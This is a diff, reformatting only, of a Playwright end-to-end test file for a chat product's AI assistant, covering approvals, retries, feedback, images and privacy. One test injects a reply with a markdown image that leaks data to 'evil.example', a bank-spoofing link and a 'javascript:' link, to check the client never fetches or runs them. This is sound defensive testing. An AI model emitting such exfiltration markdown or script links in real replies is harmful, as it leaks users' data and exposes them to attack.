@@ -7,7 +7,10 @@ import type { Person } from '../src/person.ts';
 import { type Product, startProduct } from '../src/product.ts';
 
 /** A red dot: the smallest true picture. */
-const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAoAAAAKCAYAAACNMs+9AAAAFUlEQVR42mP8z8BQz0AEYBxVSF+FABJADveWkH6oAAAAAElFTkSuQmCC', 'base64');
+const PNG = Buffer.from(
+  'iVBORw0KGgoAAAANSUhEUgAAAAoAAAAKCAYAAACNMs+9AAAAFUlEQVR42mP8z8BQz0AEYBxVSF+FABJADveWkH6oAAAAAElFTkSuQmCC',
+  'base64',
+);
 const PHONE = { width: 360, height: 740 };
 const DESKTOP = { width: 1280, height: 800 };
 
@@ -21,7 +24,14 @@ test.describe.configure({ mode: 'serial' });
 test.beforeAll(async ({ browser }) => {
   model = await startOpenAiServer();
   answers = answersOf(model);
-  product = await startProduct({ env: { AI_PROVIDER: 'openai-compatible', AI_BASE_URL: model.url, AI_MODEL: 'test-vision', AI_API_KEY: 'key' } });
+  product = await startProduct({
+    env: {
+      AI_PROVIDER: 'openai-compatible',
+      AI_BASE_URL: model.url,
+      AI_MODEL: 'test-vision',
+      AI_API_KEY: 'key',
+    },
+  });
   ({ ada, bo } = await twoColleagues(browser, product.url));
   await ada.createChannel('Suppliers', '');
   await ada.openChannel('Crane refit');
@@ -32,14 +42,24 @@ test.afterAll(async () => {
   await model.close();
 });
 
-const card = (person: Person, name: string | RegExp): Locator => person.conversation.getByRole('region', { name });
+const card = (person: Person, name: string | RegExp): Locator =>
+  person.conversation.getByRole('region', { name });
 /** What the model has been sent for a question, tools' results included. */
-const sentFor = (question: string): string => JSON.stringify(model.requests.filter(({ messages }) => JSON.stringify(messages.findLast(({ role }) => role === 'user')).includes(question)));
+const sentFor = (question: string): string =>
+  JSON.stringify(
+    model.requests.filter(({ messages }) =>
+      JSON.stringify(messages.findLast(({ role }) => role === 'user')).includes(question),
+    ),
+  );
 
 test('what the assistant looked at is folded above its answer, for both, and opens the exact message', async () => {
   await bo.write('The gearbox from Malmö is two weeks late');
   await ada.sees('The gearbox from Malmö is two weeks late');
-  answers.set('How late is the gearbox?', { call: [{ name: 'search', input: { words: 'gearbox Malmö' } }] }, { say: ['Two weeks, ', 'by what Bo wrote.'] });
+  answers.set(
+    'How late is the gearbox?',
+    { call: [{ name: 'search', input: { words: 'gearbox Malmö' } }] },
+    { say: ['Two weeks, ', 'by what Bo wrote.'] },
+  );
   await ada.write('How late is the gearbox?');
   for (const person of [ada, bo]) {
     await person.sees('Two weeks, by what Bo wrote.');
@@ -54,9 +74,16 @@ test('what the assistant looked at is folded above its answer, for both, and ope
   }
   expect(sentFor('How late is the gearbox?')).toContain('The gearbox from Malmö is two weeks late');
   await expectAccessible(ada.page, 'a reply with its looks');
-  await ada.message('Two weeks, by what Bo wrote.').getByRole('link', { name: /gearbox from Malmö/ }).first().click();
+  await ada
+    .message('Two weeks, by what Bo wrote.')
+    .getByRole('link', { name: /gearbox from Malmö/ })
+    .first()
+    .click();
   await expect(ada.page).toHaveURL(/\/channels\/.*[?&]m=/);
-  await ada.message('Two weeks, by what Bo wrote.').getByRole('button', { name: 'Why this reply' }).click();
+  await ada
+    .message('Two weeks, by what Bo wrote.')
+    .getByRole('button', { name: 'Why this reply' })
+    .click();
   const why = ada.page.getByRole('dialog', { name: 'Why this reply' });
   await expect(why).toContainText('test-vision');
   await expect(why).toContainText('Ada Lovelace');
@@ -66,9 +93,18 @@ test('what the assistant looked at is folded above its answer, for both, and ope
 });
 
 test('a message for another channel is sent when its asker says so, and by nobody else', async () => {
-  answers.set('Tell the suppliers', { call: [{ name: 'draft_message', input: { channel: 'Suppliers', text: 'The gearbox is late.' } }] }, { say: ['Shall I say this?'] });
+  answers.set(
+    'Tell the suppliers',
+    {
+      call: [
+        { name: 'draft_message', input: { channel: 'Suppliers', text: 'The gearbox is late.' } },
+      ],
+    },
+    { say: ['Shall I say this?'] },
+  );
   await ada.write('Tell the suppliers, please');
-  for (const person of [ada, bo]) await expect(card(person, 'Message to #Suppliers')).toContainText('The gearbox is late.');
+  for (const person of [ada, bo])
+    await expect(card(person, 'Message to #Suppliers')).toContainText('The gearbox is late.');
   await expect(card(bo, 'Message to #Suppliers')).toContainText('Waits for Ada Lovelace');
   await expect(card(bo, 'Message to #Suppliers').getByRole('button')).toHaveCount(0);
   await expectAccessible(ada.page, 'a proposal');
@@ -76,7 +112,10 @@ test('a message for another channel is sent when its asker says so, and by nobod
   await ada.page.getByRole('dialog').getByLabel('Text').fill('The gearbox is **two weeks** late.');
   await expectAccessible(ada.page, 'a proposal in a form');
   await ada.page.getByRole('dialog').getByRole('button', { name: 'Send' }).click();
-  for (const person of [ada, bo]) await expect(card(person, 'Message to #Suppliers').getByRole('link', { name: 'Open the message' })).toBeVisible();
+  for (const person of [ada, bo])
+    await expect(
+      card(person, 'Message to #Suppliers').getByRole('link', { name: 'Open the message' }),
+    ).toBeVisible();
   await expect(card(bo, 'Message to #Suppliers')).toContainText('Ada Lovelace said yes');
   await card(ada, 'Message to #Suppliers').getByRole('link', { name: 'Open the message' }).click();
   await ada.sees('The gearbox is two weeks late.');
@@ -87,36 +126,71 @@ test('a message for another channel is sent when its asker says so, and by nobod
 test('a risk enters the register and an event the schedule with a yes, and not with a no', async () => {
   answers.set(
     'Raise and plan',
-    { call: [
-      { name: 'draft_risk', input: { title: 'Gearbox slips past the survey', likelihood: 4, impact: 4, category: 'Supply' } },
-      { name: 'draft_event', input: { title: 'Survey, moved', starts_at: '2031-11-26T09:00:00Z' } },
-      { name: 'draft_event', input: { title: 'Second survey', starts_at: '2031-11-27T09:00:00Z' } },
-    ] },
+    {
+      call: [
+        {
+          name: 'draft_risk',
+          input: {
+            title: 'Gearbox slips past the survey',
+            likelihood: 4,
+            impact: 4,
+            category: 'Supply',
+          },
+        },
+        {
+          name: 'draft_event',
+          input: { title: 'Survey, moved', starts_at: '2031-11-26T09:00:00Z' },
+        },
+        {
+          name: 'draft_event',
+          input: { title: 'Second survey', starts_at: '2031-11-27T09:00:00Z' },
+        },
+      ],
+    },
     { say: ['Three things wait for you.'] },
   );
   await ada.write('Raise and plan what is needed');
   const surveys = card(ada, 'Event in #Crane refit');
   await expect(card(ada, 'Risk in #Crane refit')).toContainText('16');
   await expect(surveys).toHaveCount(2);
-  await card(ada, 'Risk in #Crane refit').getByRole('button', { name: 'Add to the register' }).click();
-  await surveys.filter({ hasText: 'Survey, moved' }).getByRole('button', { name: 'Plan it' }).click();
-  await surveys.filter({ hasText: 'Second survey' }).getByRole('button', { name: 'Decline' }).click();
+  await card(ada, 'Risk in #Crane refit')
+    .getByRole('button', { name: 'Add to the register' })
+    .click();
+  await surveys
+    .filter({ hasText: 'Survey, moved' })
+    .getByRole('button', { name: 'Plan it' })
+    .click();
+  await surveys
+    .filter({ hasText: 'Second survey' })
+    .getByRole('button', { name: 'Decline' })
+    .click();
   await expect(surveys.filter({ hasText: 'Second survey' })).toContainText('You declined');
-  await expect(card(bo, 'Event in #Crane refit').filter({ hasText: 'Second survey' })).toContainText('Ada Lovelace declined');
-  await surveys.filter({ hasText: 'Survey, moved' }).getByRole('link', { name: 'Open the event' }).click();
+  await expect(
+    card(bo, 'Event in #Crane refit').filter({ hasText: 'Second survey' }),
+  ).toContainText('Ada Lovelace declined');
+  await surveys
+    .filter({ hasText: 'Survey, moved' })
+    .getByRole('link', { name: 'Open the event' })
+    .click();
   await expect(ada.page.getByText('Survey, moved').first()).toBeVisible();
   await ada.page.goBack();
   await card(ada, 'Risk in #Crane refit').getByRole('link', { name: 'Open the risk' }).click();
-  await expect(ada.page.getByRole('heading', { name: 'Gearbox slips past the survey' })).toBeVisible();
+  await expect(
+    ada.page.getByRole('heading', { name: 'Gearbox slips past the survey' }),
+  ).toBeVisible();
   await ada.openChannel('Crane refit');
 });
 
 test('an answer is stopped where it is, and asked for again', async () => {
-  answers.set('Tell me everything', { say: Array.from({ length: 200 }, (_, index) => `word ${index} `), pauseMs: 100 });
+  answers.set('Tell me everything', {
+    say: Array.from({ length: 200 }, (_, index) => `word ${index} `),
+    pauseMs: 100,
+  });
   await bo.write('Tell me everything');
   await expect(bo.message('word 3')).toHaveCount(1);
   await bo.page.getByRole('button', { name: 'Stop', exact: true }).click();
-  for (const person of [ada, bo]) await expect(person.conversation.getByText('Stopped', { exact: true })).toBeVisible();
+  for (const person of [ada, bo])
+    await expect(person.conversation.getByText('Stopped', { exact: true })).toBeVisible();
   await expect(ada.conversation.getByRole('button', { name: 'Try again' })).toHaveCount(0);
   answers.set('Tell me everything', { say: ['Everything, ', 'in short.'] });
   await bo.conversation.getByRole('button', { name: 'Try again' }).click();
@@ -127,7 +201,10 @@ test('an answer is stopped where it is, and asked for again', async () => {
 test('a failure says why, and the next try answers', async () => {
   answers.set('And the crane?', { status: 401 });
   await bo.write('And the crane?');
-  for (const person of [ada, bo]) await expect(person.conversation.getByText('The provider does not accept the API key.')).toBeVisible();
+  for (const person of [ada, bo])
+    await expect(
+      person.conversation.getByText('The provider does not accept the API key.'),
+    ).toBeVisible();
   answers.set('And the crane?', { say: ['The crane is ready.'] });
   await bo.conversation.getByRole('button', { name: 'Try again' }).click();
   for (const person of [ada, bo]) await person.sees('The crane is ready.');
@@ -157,47 +234,73 @@ test('a question that is changed is asked again, and its answer rewritten in pla
 test('what people think of an answer is kept, with a note, and can be changed', async () => {
   const reply = ada.message('In July, after all.');
   await reply.getByRole('button', { name: 'Good answer' }).click();
-  await expect(reply.getByRole('button', { name: 'Good answer' })).toHaveAttribute('aria-pressed', 'true');
+  await expect(reply.getByRole('button', { name: 'Good answer' })).toHaveAttribute(
+    'aria-pressed',
+    'true',
+  );
   await reply.getByRole('button', { name: 'Bad answer' }).click();
-  await expect(reply.getByRole('button', { name: 'Good answer' })).toHaveAttribute('aria-pressed', 'false');
+  await expect(reply.getByRole('button', { name: 'Good answer' })).toHaveAttribute(
+    'aria-pressed',
+    'false',
+  );
   await reply.getByRole('button', { name: 'Say why' }).click();
   await ada.page.getByLabel('What was wrong? (optional)').fill('It was June before.');
   await expectAccessible(ada.page, 'a note on an answer');
   await ada.page.getByRole('button', { name: 'Save note' }).click();
   await expect(reply.getByRole('button', { name: 'Your note' })).toBeVisible();
   await ada.page.reload();
-  await expect(reply.getByRole('button', { name: 'Bad answer' })).toHaveAttribute('aria-pressed', 'true');
+  await expect(reply.getByRole('button', { name: 'Bad answer' })).toHaveAttribute(
+    'aria-pressed',
+    'true',
+  );
   await reply.getByRole('button', { name: 'Your note' }).click();
-  await expect(ada.page.getByLabel('What was wrong? (optional)')).toHaveValue('It was June before.');
+  await expect(ada.page.getByLabel('What was wrong? (optional)')).toHaveValue(
+    'It was June before.',
+  );
   await ada.page.keyboard.press('Escape');
-  await expect(bo.message('In July, after all.').getByRole('button', { name: 'Bad answer' })).toHaveAttribute('aria-pressed', 'false');
+  await expect(
+    bo.message('In July, after all.').getByRole('button', { name: 'Bad answer' }),
+  ).toHaveAttribute('aria-pressed', 'false');
 });
 
 test('a picture is given to a model that sees', async () => {
   answers.set('What is on this picture?', { say: ['A red dot.'] });
-  await ada.page.locator('input[type=file]').setInputFiles([{ name: 'dot.png', mimeType: 'image/png', buffer: PNG }]);
+  await ada.page
+    .locator('input[type=file]')
+    .setInputFiles([{ name: 'dot.png', mimeType: 'image/png', buffer: PNG }]);
   await expect(ada.page.getByRole('list', { name: 'Files' }).getByRole('listitem')).toHaveCount(1);
   await expect(ada.page.getByRole('progressbar')).toHaveCount(0);
   await ada.write('What is on this picture?');
   await bo.sees('A red dot.');
-  expect(sentFor('What is on this picture?')).toMatch(/"image_url":\{"url":"data:image\/(png|webp|jpeg);base64,/);
+  expect(sentFor('What is on this picture?')).toMatch(
+    /"image_url":\{"url":"data:image\/(png|webp|jpeg);base64,/,
+  );
 });
 
 test('a picture or a link that an answer names is never fetched, and shows where it leads', async () => {
   const asked: string[] = [];
   const note = (request: { url(): string }) => asked.push(request.url());
   for (const { page } of [ada, bo]) page.on('request', note);
-  answers.set('Show me the chart', { say: ['Here: ![chart](https://evil.example/p.png?d=secret) and [https://bank.example](https://evil.example/x) and [run](javascript:alert(1))'] });
+  answers.set('Show me the chart', {
+    say: [
+      'Here: ![chart](https://evil.example/p.png?d=secret) and [https://bank.example](https://evil.example/x) and [run](javascript:alert(1))',
+    ],
+  });
   await ada.write('Show me the chart');
   for (const person of [ada, bo]) {
     await person.sees('Here: ');
     const reply = person.message('Here: ');
     await expect(reply.getByRole('img', { name: 'chart' })).toHaveCount(0);
     await expect(reply).toContainText('evil.example');
-    for (const href of await reply.getByRole('link').evaluateAll((links) => links.map((link) => link.getAttribute('href') ?? ''))) expect(href).not.toMatch(/^(?:javascript|data):/);
+    for (const href of await reply
+      .getByRole('link')
+      .evaluateAll((links) => links.map((link) => link.getAttribute('href') ?? '')))
+      expect(href).not.toMatch(/^(?:javascript|data):/);
   }
   for (const { page } of [ada, bo]) page.off('request', note);
-  expect(asked.filter((url) => url.includes('evil.example') || url.includes('bank.example'))).toEqual([]);
+  expect(
+    asked.filter((url) => url.includes('evil.example') || url.includes('bank.example')),
+  ).toEqual([]);
 });
 
 test('who runs the channel reads in its log what was answered, and why nothing was said', async () => {
@@ -248,7 +351,12 @@ test('alone with the assistant a person finds what is private to them; in a chan
   await ada.sees('Eleven million.');
   expect(sentFor('For what is the yard going?')).toContain('sold for eleven million');
   await ada.message('Eleven million.').getByRole('button', { name: 'Looked at 1 thing' }).click();
-  await expect(ada.message('Eleven million.').getByRole('link', { name: /yard is sold/ }).first()).toBeVisible();
+  await expect(
+    ada
+      .message('Eleven million.')
+      .getByRole('link', { name: /yard is sold/ })
+      .first(),
+  ).toBeVisible();
 
   await ada.openChannel('Crane refit');
   await ada.write('And what does the yard go for?');
@@ -258,7 +366,22 @@ test('alone with the assistant a person finds what is private to them; in a chan
 
 test('replies, proposals and looks fit on a phone', async () => {
   await ada.page.setViewportSize(PHONE);
-  answers.set('Once more for the phone', { call: [{ name: 'find_risks', input: {} }, { name: 'draft_message', input: { channel: 'Suppliers', text: `Address: https://supplier.example/${'a'.repeat(120)}` } }] }, { say: ['It all fits.'] });
+  answers.set(
+    'Once more for the phone',
+    {
+      call: [
+        { name: 'find_risks', input: {} },
+        {
+          name: 'draft_message',
+          input: {
+            channel: 'Suppliers',
+            text: `Address: https://supplier.example/${'a'.repeat(120)}`,
+          },
+        },
+      ],
+    },
+    { say: ['It all fits.'] },
+  );
   await ada.write('Once more for the phone');
   await ada.sees('It all fits.');
   await ada.message('It all fits.').getByRole('button', { name: 'Looked at 2 things' }).click();
